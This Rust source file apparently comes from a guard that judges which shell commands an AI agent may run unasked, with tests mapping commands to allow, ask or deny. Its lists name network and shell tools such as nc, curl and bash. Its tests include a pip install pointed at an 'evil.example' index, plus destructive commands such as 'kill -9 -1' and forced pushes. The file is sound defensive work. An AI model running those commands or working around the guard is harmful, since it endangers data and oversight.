//! What is ordinary beside a person: exceptions from the rules of the guard's preset, and from nothing else.
//!
//! Each is about one effect of one part of a command, known word by word; what is not exactly one of these stays under the
//! rules. Danger: an exception holds for every agent, also for one that nobody watches.

use crate::domain::policy::{
    interpretation::{CommandEffect, SimpleCommand},
    partial_text::base_name,
    resolved_path::ResolvedPath,
    rule::EffectKind,
};

/// Returns whether a part of a command is ordinary, so that no rule of the preset is about this effect of it.
pub(super) fn is_guard_exception(act: &SimpleCommand, effect: &CommandEffect) -> bool {
    match effect {
        CommandEffect::Read(place) => reads_all(place),
        CommandEffect::Write(_) | CommandEffect::Delete(_) => false,
        CommandEffect::Does(kind, said) => match kind {
            EffectKind::Opaque => {
                is_plain_unknown(act, said)
                    || said.ends_with(", which is not described") && is_of_the_manifest(act)
            }
            EffectKind::PackageInstall => is_of_the_manifest(act),
            EffectKind::Network => {
                asks_openly(act, said)
                    || is_compose(act)
                    || is_in_container(act)
                    || is_of_the_manifest(act)
            }
            EffectKind::System => {
                is_compose(act) || ends_own_processes(act, said) || changes_gently(act, said)
            }
            EffectKind::GitDestructive => is_careful_push(act, said),
            EffectKind::Privilege | EffectKind::Persistence => false,
        },
    }
}

/// Returns whether another machine is asked for something that is no secret.
fn asks_openly(act: &SimpleCommand, said: &str) -> bool {
    const SECRET: [&str; 5] = ["secret", "token", "credential", "password", "ssm"];
    let is_secret = |word: &String| {
        let lower = word.to_lowercase();
        SECRET.iter().any(|secret| lower.contains(secret))
    };
    said.ends_with(" asks another machine") && !act.words.iter().any(is_secret)
}

/// Returns whether a command reads whatever is in a folder, so that a rule about one file is not about it.
fn reads_all(place: &ResolvedPath) -> bool {
    let ResolvedPath::Inside(path) = place else {
        return false;
    };
    path.rsplit('/')
        .next()
        .is_some_and(|name| name.starts_with('*'))
}

/// Programs that run, remove or send what they are told: a word that names one is more than a name.
const TELLING: &[&str] = &[
    "rm", "rmdir", "unlink", "shred", "dd", "mv", "truncate", "find", "xargs", "sh", "bash",
    "dash", "zsh", "ksh", "fish", "eval", "exec", "sudo", "su", "doas", "env", "python", "python3",
    "perl", "ruby", "node", "php", "curl", "wget", "ssh", "scp", "nc", "ncat", "git", "chmod",
    "chown", "mkfs", "tee", "source", "awk", "sed", "tar", "rsync", "busybox",
];

/// Returns whether all that is not known about a part of a command is its program, and its words name no other program: a
/// tool of this person's that nobody has described.
fn is_plain_unknown(act: &SimpleCommand, words: &str) -> bool {
    let unknown =
        words.starts_with("the program `") && words.ends_with("`, which is not described");
    let is_name = |word: &str| !word.contains(['/', '\\', '$', '`', '*', '\u{2026}', '(', ')']);
    let tells = |word: &String| {
        word.split(|c: char| c.is_whitespace() || "=;|&\"'".contains(c))
            .any(|part| TELLING.contains(&base_name(part)) || part == ".." || part.starts_with('/'))
    };
    let Some((program, args)) = act.words.split_first() else {
        return false;
    };
    unknown && act.via.is_empty() && is_name(program) && !args.iter().any(tells)
}

/// Returns the program of a part and the words behind it.
fn parts(act: &SimpleCommand) -> Option<(&str, Vec<&str>)> {
    let (_, args) = act.words.split_first()?;
    Some((act.program(), args.iter().map(String::as_str).collect()))
}

/// Returns whether packages come in that the project itself lists: the manifest was read by whoever wrote it.
fn is_of_the_manifest(act: &SimpleCommand) -> bool {
    const QUIET: [&str; 8] = [
        "-q",
        "--quiet",
        "-s",
        "--silent",
        "--frozen-lockfile",
        "--immutable",
        "--no-audit",
        "--no-fund",
    ];
    let Some((program, args)) = parts(act) else {
        return false;
    };
    let args: Vec<&str> = args
        .into_iter()
        .filter(|arg| !QUIET.contains(arg))
        .collect();
    match (program, args.as_slice()) {
        ("npm" | "pnpm" | "bun", ["install" | "i" | "ci"])
        | ("npm", ["clean-install"])
        | ("yarn" | "bundle", [] | ["install"])
        | ("uv", ["sync" | "lock"])
        | ("poetry" | "pipenv" | "pdm", ["install" | "lock" | "sync"])
        | ("cargo", ["fetch"] | ["fetch", "--locked"])
        | ("go", ["mod", "download"])
        | ("composer" | "pod", ["install"])
        | ("dotnet", ["restore"])
        | ("mix", ["deps.get"]) => true,
        ("conda" | "mamba" | "micromamba", ["env", "create" | "update", rest @ ..]) => {
            is_of_environment(rest)
        }
        ("pip" | "pip3", ["install", rest @ ..])
        | ("python" | "python3", ["-m", "pip", "install", rest @ ..])
        | ("uv", ["pip", "install", rest @ ..]) => is_of_requirements(rest),
        _ => false,
    }
}

/// Returns whether a path is one of the project, as it is written.
fn is_own(path: &str) -> bool {
    !path.is_empty()
        && !path.starts_with(['/', '~', '-'])
        && !path.contains([':', '$', '\u{2026}', '*'])
        && path.split('/').all(|part| part != "..")
}

/// Returns whether the words of `conda env create` name nothing but a file of the project and the environment.
fn is_of_environment(words: &[&str]) -> bool {
    let mut words = words.iter();
    let mut found = false;
    while let Some(word) = words.next() {
        match (*word, word.strip_prefix("--file=")) {
            ("-f" | "--file", _) if words.next().is_some_and(|file| is_own(file)) => found = true,
            (_, Some(file)) if is_own(file) => found = true,
            ("-n" | "--name", _) if words.next().is_some_and(|name| is_own(name)) => {}
            ("-y" | "--yes" | "-q" | "--quiet" | "--prune", _) => {}
            _ => return false,
        }
    }
    found
}

/// Returns whether a command runs in a container that is up already, and does nothing there that would be more than ordinary.
fn is_in_container(act: &SimpleCommand) -> bool {
    let Some((program, args)) = parts(act) else {
        return false;
    };
    let words = match (program, args.split_first()) {
        ("docker" | "podman" | "nerdctl", Some((&"compose", words))) => words,
        ("docker" | "podman" | "nerdctl" | "docker-compose" | "podman-compose", _) => &args,
        _ => return false,
    };
    let Some((&"exec", rest)) = words.split_first() else {
        return false;
    };
    let is_privileged = |word: &&str| word.starts_with("--privileged");
    let tells = |word: &&str| {
        word.split(|c: char| c.is_whitespace() || "=;|&\"'".contains(c))
            .any(|part| TELLING.contains(&base_name(part)))
    };
    !rest.is_empty() && !rest.iter().any(is_privileged) && !rest.iter().any(tells)
}

/// Returns whether the words of `pip install` name nothing but files of the project.
fn is_of_requirements(words: &[&str]) -> bool {
    let is_folder = |path: &str| {
        let folder = path.split('[').next().unwrap_or(path);
        folder == "." || folder.starts_with("./")
    };
    let mut words = words.iter();
    let mut found = false;
    while let Some(word) = words.next() {
        let good = match *word {
            "-r" | "--requirement" => words.next().is_some_and(|file| is_own(file)),
            "-e" | "--editable" => words
                .next()
                .is_some_and(|path| is_folder(path) && is_own(path)),
            "-U" | "--upgrade" => continue,
            path => is_folder(path) && is_own(path),
        };
        if !good {
            return false;
        }
        found = true;
    }
    found
}

/// Returns whether the containers of the project come and go, and none of their data with them.
fn is_compose(act: &SimpleCommand) -> bool {
    const VERBS: [&str; 10] = [
        "up", "down", "build", "start", "stop", "restart", "pull", "logs", "ps", "create",
    ];
    const LOSING: [&str; 6] = [
        "-v",
        "--volumes",
        "--rmi",
        "-V",
        "--renew-anon-volumes",
        "--remove-orphans",
    ];
    let Some((program, args)) = parts(act) else {
        return false;
    };
    let rest = match (program, args.as_slice()) {
        ("docker" | "podman", ["compose", rest @ ..]) => rest,
        ("docker-compose" | "podman-compose", rest) => rest,
        _ => return false,
    };
    rest.first().is_some_and(|verb| VERBS.contains(verb))
        && !rest.iter().any(|word| LOSING.contains(word))
}

/// Returns whether single processes are ended, by number or by name.
fn ends_own_processes(act: &SimpleCommand, said: &str) -> bool {
    const SIGNALS: [&str; 9] = [
        "-9", "-15", "-KILL", "-TERM", "-INT", "-HUP", "-SIGKILL", "-SIGTERM", "-f",
    ];
    let Some((program, args)) = parts(act) else {
        return false;
    };
    if !said.ends_with(" ends processes it did not start") {
        return false;
    }
    let (options, targets): (Vec<&str>, Vec<&str>) =
        args.into_iter().partition(|arg| arg.starts_with('-'));
    let is_plain = options.iter().all(|option| SIGNALS.contains(option));
    let is_named = |target: &&str| {
        let name = target.trim();
        let letters = name.chars().filter(|c| c.is_alphanumeric()).count();
        let is_number = name.chars().all(|c| c.is_ascii_digit());
        match program {
            "kill" => is_number && name.len() > 1,
            _ => letters >= 3 && !name.contains(['*', '$', '\u{2026}', '|']),
        }
    };
    is_plain
        && matches!(program, "kill" | "pkill" | "killall")
        && !targets.is_empty()
        && targets.iter().all(is_named)
}

/// Returns whether something changes on another machine and nothing is removed there: that is asked about as outward.
fn changes_gently(act: &SimpleCommand, said: &str) -> bool {
    const REMOVING: [&str; 16] = [
        "destroy",
        "delete",
        "remove",
        "rm",
        "purge",
        "terminate",
        "drop",
        "wipe",
        "reset",
        "prune",
        "uninstall",
        "force",
        "rb",
        "flush",
        "erase",
        "truncate",
    ];
    let removes = |word: &String| {
        let lower = word.to_lowercase();
        lower
            .split(|c: char| !c.is_alphanumeric())
            .any(|part| REMOVING.contains(&part))
    };
    said.ends_with(" changes what lies on another machine") && !act.words.iter().any(removes)
}

/// Returns whether a push overwrites only what this machine has seen; a push is asked about anyway.
fn is_careful_push(act: &SimpleCommand, said: &str) -> bool {
    let Some((_, args)) = parts(act) else {
        return false;
    };
    let careful =
        |arg: &&str| arg.starts_with("--force-with-lease") || *arg == "--force-if-includes";
    let harmless = |arg: &&str| {
        careful(arg)
            || matches!(
                *arg,
                "-u" | "--set-upstream" | "-q" | "--quiet" | "--tags" | "--no-verify"
            )
    };
    said.starts_with("git push overwrites or removes")
        && said.ends_with("holds")
        && args.iter().any(careful)
        && args
            .iter()
            .filter(|arg| arg.starts_with(['-', '+', ':']))
            .all(harmless)
}

#[cfg(test)]
mod tests {
    use crate::domain::{
        command::{Command, CommandKind},
        job::rules::PolicyRules,
        policy::{Decision, Policy, PolicyContext, PolicyPreset},
    };

    fn decision(code: &str) -> Decision {
        let rules = PolicyRules {
            preset: PolicyPreset::Guard,
            allow_types: CommandKind::KNOWN.to_vec(),
            ..PolicyRules::default()
        };
        let world = PolicyContext {
            attended: true,
            home: Some("/home/ann".into()),
            ..PolicyContext::unattended("/srv/job/root")
        };
        let command = Command {
            kind: CommandKind::Bash,
            code: code.to_owned(),
            argv: Vec::new(),
        };
        Policy::new(&rules)
            .unwrap()
            .judge(&command, &world)
            .decision
    }

    #[test]
    fn the_ordinary_runs_and_its_neighbours_do_not() {
        for (code, expected) in [
            ("npm install", Decision::Allow),
            ("npm ci --no-audit", Decision::Allow),
            ("npm install left-pad", Decision::Ask),
            ("npm install -g", Decision::Ask),
            ("pip install -r requirements.txt", Decision::Allow),
            ("python3 -m pip install -e '.[dev]'", Decision::Allow),
            ("pip install requests", Decision::Ask),
            ("pip install -r /tmp/x.txt", Decision::Ask),
            ("pip install -r https://example.org/x.txt", Decision::Ask),
            (
                "pip install -i http://evil.example -r requirements.txt",
                Decision::Ask,
            ),
            ("uv sync", Decision::Allow),
            ("docker compose up -d", Decision::Allow),
            ("docker compose down", Decision::Allow),
            ("docker compose down -v", Decision::Deny),
            ("docker run --rm -it app sh", Decision::Ask),
            ("kill -9 12345", Decision::Allow),
            ("kill -9 1", Decision::Deny),
            ("kill -9 -1", Decision::Deny),
            ("kill -9 12345 -1", Decision::Deny),
            ("pkill -f 'node server.js'", Decision::Allow),
            ("pkill -f .", Decision::Deny),
            ("killall node", Decision::Allow),
            ("pkill -u ann", Decision::Deny),
            ("gh run list", Decision::Allow),
            ("kubectl get pods", Decision::Allow),
            ("kubectl get secret db -o yaml", Decision::Ask),
            ("gh pr create --fill", Decision::Ask),
            ("gh repo delete x --yes", Decision::Deny),
            ("terraform plan", Decision::Allow),
            ("terraform apply", Decision::Ask),
            ("terraform destroy", Decision::Deny),
            ("git push --force-with-lease", Decision::Ask),
            ("git push --force-with-lease origin +main", Decision::Deny),
            ("git push --force-with-lease --force", Decision::Deny),
            ("git push --mirror --force-with-lease", Decision::Deny),
        ] {
            assert_eq!(self::decision(code), expected, "{code}");
        }
    }
}
